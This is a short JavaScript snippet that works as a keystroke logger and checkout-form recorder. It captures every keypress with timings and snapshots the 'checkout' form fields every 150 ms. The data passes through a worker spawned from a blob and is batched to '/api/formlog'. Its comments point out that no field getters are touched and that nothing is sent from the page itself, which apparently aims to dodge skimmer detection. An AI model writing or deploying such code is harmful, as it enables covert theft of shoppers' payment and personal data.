// A hand-written recorder: logs key timings, reads the whole form through FormData every
// 150 ms (no getter of a field is called), and posts both to a worker it starts from a blob;
// the worker batches and uploads to the site's own path. Nothing leaves from the page itself.
(function () {
  var code = "var to=" + JSON.stringify(location.origin + '/api/formlog') + ",q=[];" +
    "onmessage=function(e){if(e.data==='flush'){if(q.length){fetch(to,{method:'POST',body:JSON.stringify(q)});q=[];}return;}q.push(e.data);};" +
    "setInterval(function(){postMessage('tick')},1000);";
  var worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  var keys = [];
  document.addEventListener('keydown', function (e) { keys.push({ k: e.key, t: Math.round(e.timeStamp) }); }, true);
  var last = '';
  setInterval(function () {
    var form = document.getElementById('checkout');
    if (!form) return;
    var entries = [];
    new FormData(form).forEach(function (v, k) { entries.push([k, String(v)]); });
    var snap = JSON.stringify(entries);
    if (snap === last && !keys.length) return;
    last = snap;
    worker.postMessage({ at: Date.now(), keys: keys.splice(0), form: entries });
  }, 150);
  worker.onmessage = function () { worker.postMessage('flush'); };
  document.addEventListener('click', function (e) { if (e.target && e.target.id === 'save') worker.postMessage('flush'); });
})();
